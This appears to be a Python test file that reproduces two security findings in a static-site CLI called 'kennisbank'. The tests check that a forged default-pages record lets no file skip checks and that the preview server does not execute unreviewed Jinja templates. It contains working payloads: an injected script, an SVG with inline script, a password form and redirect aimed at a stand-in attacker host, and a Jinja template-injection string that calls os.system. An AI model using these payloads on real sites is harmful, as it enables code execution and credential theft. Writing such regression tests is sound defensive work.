"""The seventh attack (issue 24, December 2026): each finding reproduced as a test of what
should happen, marked xfail(strict=True) with the finding's id until it is fixed (then the
mark goes and the test guards the fix).

Every case runs the real CLI in a subprocess on a fresh project made by `kennisbank init` in
a temporary folder, with a time limit, and builds with the real engine; the browser case
serves the built site with Debian's nginx and the block `kennisbank serverconfig nginx`
writes (Content-Security-Policy header included) and opens it in Chromium."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from server_support import free_port, running_nginx

# The CLI runner and the freshly initialised project of the fourth round.
from test_attack_round4 import _cli, _no_traceback, project  # noqa: F401, F811 (a fixture)

# -- R7-1 (high): the default-pages record lets any file in docs/ skip `check` -------------
# `docs/.kennisbank-bestanden-standaard` is the generator's record of the default pages it
# wrote (path under docs/ -> SHA-256 of what it wrote). content/load.read_docs skips every
# file whose path is in the record with a matching hash ("the engine's own page, not
# hand-written"), whatever the path. The record is a dot file in docs/: a pull request can
# commit it (`git add -f`), listing its own files with their hashes. `check` then reads none
# of them (not onveilige-html, not onveilig-bestand, not SHIPPED_SCRIPTS), the build's
# default_pages only rewrites index.md and tekstcheck.md, and both engines publish the rest.
# So a content pull request gets a script of its own on the site: `docs/aanval.js` plus a
# page `<script src="../aanval.js">` passes the output check of R4-2 (a .js of the site
# itself) and runs under `script-src 'self'`, also on a host that sends the CSP header;
# likewise an SVG with an inline script (opened as a document of the site's origin on a
# host without the header), a <meta http-equiv="refresh"> and a form to another host. The
# build then rewrites the record, so the next `check` finds nothing amiss either.

RECORD = ".kennisbank-bestanden-standaard"
HOSTILE_FILES = {
    "aanval.js": "document.documentElement.dataset.aanval = 'uitgevoerd';\n",
    "welkom.md": ("# Welkom\n\n<script src=\"../aanval.js\"></script>\n\n"
                  "<meta http-equiv=\"refresh\" content=\"30;url=https://aanvaller.example/\">\n"
                  "<form action=\"https://aanvaller.example/\"><input name=\"wachtwoord\">"
                  "</form>\n"),
    "plaatje.svg": ('<svg xmlns="http://www.w3.org/2000/svg"><script>'
                    "alert(document.domain)</script></svg>\n"),
}


def _commit_hostile_docs(project: Path) -> None:  # noqa: F811
    docs = project / "docs"
    docs.mkdir(exist_ok=True)
    for name, text in HOSTILE_FILES.items():
        (docs / name).write_text(text, encoding="utf-8")
    record = {name: hashlib.sha256(text.encode()).hexdigest()
              for name, text in HOSTILE_FILES.items()}
    (docs / RECORD).write_text(json.dumps(record), encoding="utf-8")



@pytest.mark.parametrize("engine", ["mkdocs", "zensical"])
def test_r7_1_the_default_pages_record_lets_no_file_skip_check(project: Path,  # noqa: F811
                                                               tmp_path: Path,
                                                               engine: str) -> None:
    _commit_hostile_docs(project)
    check = _cli("check", "--root", str(project), cwd=tmp_path)
    built = _cli("build", "--root", str(project), "--engine", engine, cwd=tmp_path)
    _no_traceback(check)
    _no_traceback(built)
    site = project / "site"
    published = sorted(name for name in ("aanval.js", "plaatje.svg")
                       if (site / name).is_file()) if site.is_dir() else []
    assert published == [], f"gepubliceerd zonder controle: {published}"
    assert check.returncode == 1
    for name in HOSTILE_FILES:
        assert f"docs/{name}" in check.stdout
    assert built.returncode == 1


@contextlib.contextmanager
def _served(site: Path) -> Iterator[int]:
    """The built site copied to a folder an unprivileged nginx worker may read, served with
    the block of `kennisbank serverconfig nginx` (its Content-Security-Policy header too)."""
    from kennisbank.cli.main import main

    with tempfile.TemporaryDirectory(prefix="kb-aanval7-") as raw:
        folder = Path(raw)
        folder.chmod(0o755)
        shutil.copytree(site, folder / "site")
        for path in (folder / "site").rglob("*"):
            path.chmod(0o755 if path.is_dir() else 0o644)
        server = folder / "nginx"
        server.mkdir()
        port = free_port()
        with (server / "kennisbank.conf").open("w", encoding="utf-8") as out, \
                contextlib.redirect_stdout(out):
            assert main(["serverconfig", "nginx", "--root", str(folder / "site"),
                         "--listen", f"127.0.0.1:{port}"]) == 0
        with running_nginx(server, port):
            yield port



def test_r7_1_no_contributed_script_runs_on_the_served_site(project: Path,  # noqa: F811
                                                             tmp_path: Path,
                                                             browser: Any) -> None:
    _commit_hostile_docs(project)
    built = _cli("build", "--root", str(project), cwd=tmp_path)
    _no_traceback(built)
    if built.returncode != 0:
        return  # refused: what should happen
    context = browser.new_context()
    try:
        page = context.new_page()
        with _served(project / "site") as port:
            response = page.goto(f"http://127.0.0.1:{port}/welkom/")
            assert response is not None and response.status == 200
            assert "script-src 'self'" in (response.headers.get("content-security-policy")
                                           or "")
            page.wait_for_load_state("load")
            ran = page.evaluate("document.documentElement.dataset.aanval || ''")
    finally:
        context.close()
    assert ran != "uitgevoerd", "een script uit de pull request liep op de site, CSP-kop en al"


# -- R7-2 (high): `kennisbank serve` runs code that `check` refuses -------------------------
# R4-2's second layer ("code is reviewed before it runs": `ongekeurde-code` stops `build`
# before MkDocs reads a template) is not in `kennisbank serve` (`make serve`, the preview
# docs/redactie.md tells editors to use). The MkDocs preview loads the configuration and
# builds the whole site once at the start even when `check` reports errors
# (mkdocsserve.MkDocsPreview.build: `full=True` ignores a failed regeneration), and the
# default configuration of an `init`/`import` project takes `overrides/` as its theme
# folder whenever that folder exists. So a pull request that adds `overrides/main.html`
# (Jinja outside a sandbox) runs a shell command on the machine of whoever previews it; a
# `hooks:` entry in an unreviewed mkdocs.yml does the same. The site it serves is also
# built from content that `check` refuses (a contributed script, for one).

def _serve_until(project: Path, tmp_path: Path, marker: Path, seconds: float) -> str:  # noqa: F811
    """`kennisbank serve` (MkDocs) on a free loopback port until `marker` appears, it says
    it serves, it stops, or `seconds` pass; what it printed."""
    log = tmp_path / "serve.log"
    with log.open("wb") as out:
        process = subprocess.Popen(  # noqa: S603 (our own CLI)
            [sys.executable, "-m", "kennisbank", "serve", "--root", str(project), "--adres",
             f"127.0.0.1:{free_port()}"], cwd=tmp_path, stdout=out, stderr=subprocess.STDOUT,
            env={**os.environ, "NO_COLOR": "1"}, start_new_session=True)
        try:
            deadline = time.monotonic() + seconds
            while time.monotonic() < deadline and process.poll() is None and \
                    not marker.exists() and b"Serving on" not in log.read_bytes():
                time.sleep(0.2)
            time.sleep(1)  # a build that was under way finishes its page
        finally:
            process.terminate()
            try:
                process.wait(timeout=20)
            except subprocess.TimeoutExpired:
                process.kill()
                process.wait(timeout=20)
    return log.read_text(encoding="utf-8", errors="replace")



def test_r7_2_serve_runs_no_unreviewed_template(project: Path,  # noqa: F811
                                                tmp_path: Path) -> None:
    marker = tmp_path / "UITGEVOERD"
    (project / "overrides").mkdir()
    (project / "overrides" / "main.html").write_text(
        '{% extends "base.html" %}\n{% block content %}{{ super() }}<!-- {{ config.__class__'
        ".__init__.__globals__['__builtins__']['__import__']('os').system('touch "
        f"{marker}') }}}} -->{{% endblock %}}\n", encoding="utf-8")
    (project / "docs").mkdir()  # a page of the pull request (or any earlier build's pages)
    (project / "docs" / "welkom.md").write_text("# Welkom\n", encoding="utf-8")
    check = _cli("check", "--root", str(project), cwd=tmp_path)
    assert check.returncode == 1 and "ongekeurde-code" in check.stdout
    said = _serve_until(project, tmp_path, marker, 60)
    assert "Traceback" not in said
    assert not marker.exists(), "de voorvertoning voerde een ongekeurd sjabloon uit"
    assert "overrides/main.html" in said
